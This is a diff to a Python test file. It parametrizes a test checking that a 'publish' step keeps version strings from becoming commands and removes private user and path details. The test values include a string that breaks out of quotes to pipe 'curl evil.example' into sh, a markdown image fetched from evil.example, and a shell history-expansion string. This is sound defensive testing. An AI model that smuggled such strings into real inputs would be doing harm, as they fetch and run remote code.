@@ -187,10 +187,10 @@ def test_the_front_matter_is_a_hubs_and_the_commands_are_there(tmp_path: Path) -
     assert main(["report", str(into)]) == 0
 
 
-def test_a_version_is_no_command_and_nothing_private(tmp_path: Path) -> None:
-    """README.md had it in a command, as it stood in the record."""
+@pytest.mark.parametrize("evil", ['1"; curl evil.example|sh\n```\n\n![x](//evil.example/x.png)', "1!curl"])
+def test_a_version_is_no_command_and_nothing_private(tmp_path: Path, evil: str) -> None:
+    """README.md had it in a command, as it stood in the record. What follows "!" is of the shell's history."""
     study = make_study(tmp_path / "study", seeds=1)
-    evil = '1"; curl evil.example|sh\n```\n\n![x](//evil.example/x.png)'
     for file in study.glob("runs/*/record.json"):
         edit(file, environment={"hf_optim": evil, "torch": f"2.1 of {USER} in /cluster/lab/torch"})
     assert main(["publish", str(study), str(tmp_path / "public")]) == 0
